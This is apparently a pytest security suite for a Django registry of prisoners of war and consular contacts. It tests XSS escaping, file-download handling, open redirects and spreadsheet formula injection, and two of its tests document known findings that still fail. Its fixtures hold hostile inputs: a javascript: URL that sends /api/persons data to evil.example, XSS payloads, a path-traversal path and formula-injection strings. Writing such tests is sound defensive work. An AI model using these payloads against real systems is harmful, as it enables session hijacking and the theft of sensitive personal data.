"""XSS (autoescape, mark_safe in the highlighter and the SVG charts, link URLs), stored-file downloads, login
and language-switch redirects, CSV/XLSX formula injection.

Tests marked `# FINDING` in their docstring FAIL today.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from polon.consular import services as consular_services
from polon.exports.charts import bar_chart, column_chart
from polon.sources.models import Source, SourceAttachment
from polon.web.templatetags.polon_tags import highlight as highlighted
from tests.security.conftest import login

pytestmark = pytest.mark.django_db

PAYLOAD = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
MARKDOWN_WITH_JS_URL = (
    "---\n"
    "title: Prisoner exchange report\n"
    "url: javascript:fetch('/api/persons').then(r=>r.text()).then(t=>location='https://evil.example/?'+btoa(t))\n"
    "---\n"
    "Ermek Katyrenov, a citizen of Kazakhstan, was captured near Demo sector 3 on 2 November 2024.\n"
)


def _js_links(html: str) -> list[str]:
    return re.findall(r'href\s*=\s*["\']?\s*javascript:', html, flags=re.I)


def test_source_url_with_a_javascript_scheme_is_never_rendered_as_a_link(users):
    """# FINDING (stored XSS): a source's URL comes from the uploaded file itself (Markdown front matter
    `url:`, auto-archiver JSON/CSV `url`), is stored unvalidated (Source.url is a URLField, but
    objects.create never runs validators) and is rendered as <a href="{{ source.url }}"> on the review page
    (sources/templates/polon/sources/review.html:11) and in consular contacts
    (consular/templates/polon/consular/contact.html:13, _contact_row.html:3). Autoescaping does not stop a
    javascript: URL. An analyst — or whoever wrote an archived file — gets script run in a registrar's or
    administrator's session when the link is clicked."""
    upload = SimpleUploadedFile("report.md", MARKDOWN_WITH_JS_URL.encode(), content_type="text/markdown")
    response = login(users["analyst"]).post("/sources/upload/", {"files": [upload], "restriction": "internal"})
    assert response.status_code == 302
    source = Source.objects.get()
    registrar = login(users["registrar"])
    review = registrar.get(f"/sources/{source.pk}/").content.decode()
    contact = consular_services.create_contact(actor=users["registrar"], country="KZ", place="Kyiv",
                                               source_ids=[source.pk])
    contact_page = registrar.get(f"/consular/contacts/{contact.pk}/").content.decode()
    contacts_list = registrar.get("/consular/contacts/").content.decode()
    leaks = {"review page": _js_links(review), "contact page": _js_links(contact_page),
             "contact list": _js_links(contacts_list)}
    assert not any(leaks.values()), f"pages linking to a javascript: URL: {leaks}"


def test_highlighter_escapes_text_and_labels():
    text = f"Before {PAYLOAD} after Ermek"
    data = {"persons": [{"name": PAYLOAD, "spans": [[7, 7 + len(PAYLOAD)]]}],
            "events": [{"type": PAYLOAD, "spans": [[0, 6]]}],
            "organisations": [{"name": '"onmouseover="alert(3)', "spans": [[len(text) - 5, len(text)]]}],
            "countries": [{"code": "<b>", "spans": [[1, 3]]}]}
    html = str(highlighted(text, data))
    assert "<script" not in html and "<img" not in html and 'onmouseover="' not in html
    assert html.count("<mark") == html.count("</mark>")
    # Spans out of range or malformed are ignored, not trusted.
    html = str(highlighted(text, {"persons": [{"name": "x", "spans": [[-5, 9999], [3, 2]]}]}))
    assert "<mark" not in html and "<script" not in html


def test_svg_charts_escape_titles_and_labels():
    for svg in (bar_chart([(PAYLOAD, 3)], title=PAYLOAD), column_chart([(PAYLOAD, 3)], title=PAYLOAD)):
        assert "<script" not in svg and "<img" not in svg and "onerror=alert(1)>" not in svg
        # The title is the chart's accessible name (aria-labelledby its <title>), escaped like every label.
        assert "&lt;script&gt;" in svg and re.search(r'<title id="chart-\d+-title">&quot;&gt;&lt;img', svg)


def test_user_text_is_escaped_on_pages(registry, users):
    consular_services.create_contact(actor=users["registrar"], country="KZ", place=PAYLOAD, summary=PAYLOAD,
                                     topics=[PAYLOAD], commitments=[PAYLOAD],
                                     participants=[consular_services.ParticipantInput(side="theirs", name=PAYLOAD)])
    from polon.enquiries.services import create_enquiry

    e = create_enquiry(actor=users["registrar"], requester_kind="family", requester_name=PAYLOAD,
                       sought_name="Ermek Katyrenov", details=PAYLOAD, sought_country="KZ")
    client = login(users["registrar"])
    for url in ("/consular/contacts/", "/countries/KZ/", f"/enquiries/{e.pk}/", "/enquiries/"):
        page = client.get(url).content.decode()
        assert "<script>alert(2)" not in page and "<img src=x" not in page, url


def test_stored_paths_outside_the_store_are_not_served(users, media_root, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    source = Source.objects.create(kind="other", title="t", stored_path="../secret.txt")
    attachment = SourceAttachment.objects.create(source=source, name="../../secret.txt",
                                                 stored_path="../secret.txt", content_type="image/png")
    client = login(users["registrar"])
    for url in (f"/sources/{source.pk}/file/", f"/sources/{source.pk}/attachments/{attachment.pk}/"):
        response = client.get(url)
        assert response.status_code == 404, url
    absolute = SourceAttachment.objects.create(source=source, name="x.png", stored_path=str(secret),
                                               content_type="image/png")
    assert client.get(f"/sources/{source.pk}/attachments/{absolute.pk}/").status_code == 404


def test_downloads_are_attachments_or_sandboxed_images(users, media_root):
    from polon.core import files

    html = files.store_bytes(b"<html><script>alert(1)</script></html>")
    source = Source.objects.create(kind="other", title="t", stored_path=html.stored_path, original_name="a.html")
    svg = SourceAttachment.objects.create(source=source, name="pic.svg", stored_path=html.stored_path,
                                          content_type="image/svg+xml")
    png = SourceAttachment.objects.create(source=source, name="pic.png", stored_path=html.stored_path,
                                          content_type="image/png")
    client = login(users["analyst"])
    response = client.get(f"/sources/{source.pk}/file/")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    response = client.get(f"/sources/{source.pk}/attachments/{svg.pk}/")
    assert response["Content-Type"] == "application/octet-stream"
    response = client.get(f"/sources/{source.pk}/attachments/{png.pk}/")
    assert "sandbox" in response["Content-Security-Policy"] and response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/",
                                    "javascript:alert(1)"])
def test_login_and_language_switch_do_not_redirect_off_site(users, target):
    response = Client().post(f"/login/?next={target}", {"username": "registrar",
                                                        "password": "test-password-polon-1", "next": target})
    assert response.status_code == 302
    assert "evil.example" not in response["Location"] and "javascript" not in response["Location"]
    response = Client().post("/language/", {"language": "en", "next": target})
    assert "evil.example" not in response.get("Location", "") and "javascript" not in response.get("Location", "")


def test_csv_and_xlsx_exports_neutralise_formulas(registry, users):
    from openpyxl import load_workbook

    from polon.exchanges import services as exchange_services
    from polon.exchanges.reconcile import reconcile_list
    from polon.exports.services import export_persons, export_reconciliation
    from polon.registry.services import create_person
    from polon.registry.services.names import NameInput

    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    person = create_person(actor=users["registrar"], category="pow", names=[NameInput(text=evil)],
                           birth_place="@SUM(1+1)*cmd|' /C calc'!A0", rank="+1+1", unit="-2+3")
    exported = export_persons(actor=users["registrar"], kind="csv", person_ids=[person.pk],
                              recipient="ICRC", legal_basis="GC III Art. 122")
    (row,) = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    for column in ("name", "birth_place", "rank", "unit"):
        assert row[column][0] == "'", (column, row[column])
    r = exchange_services.create_round(actor=users["registrar"], number=7)
    reconcile_list(actor=users["registrar"], round_id=r.pk, side="hand_over",
                   content=b'name,rank,unit\n"=cmd|\' /C calc\'!A0 Ivan",@x,+y\n', file_name="l.csv")
    exported = export_reconciliation(actor=users["registrar"], round_id=r.pk, fmt="xlsx", recipient="ICRC",
                                     legal_basis="GC III Art. 122")
    sheet = load_workbook(io.BytesIO(exported.content)).active
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type, cell.value)
            assert not str(cell.value or "").startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)


def test_api_docs_run_no_third_party_script_on_the_polon_origin(users):
    """# FINDING: api/app.py serves /api/docs publicly (docs_decorator=policy("public")) and, since "ninja" is
    not in INSTALLED_APPS, django-ninja's Swagger page loads an unpinned swagger-ui-dist@5 bundle from
    cdn.jsdelivr.net without Subresource Integrity. That script runs on the polon origin: in the browser of a
    logged-in user it can call every /api/ GET with the session cookie (no CSRF needed for reads). A
    compromised CDN/npm package is a full data leak. (The schema itself holds no data.)"""
    for client in (Client(), login(users["registrar"])):
        page = client.get("/api/docs").content.decode()
        external = re.findall(r'<script[^>]+src="(https?://[^"]+)"', page)
        assert external == [], f"/api/docs loads third-party script: {external}"
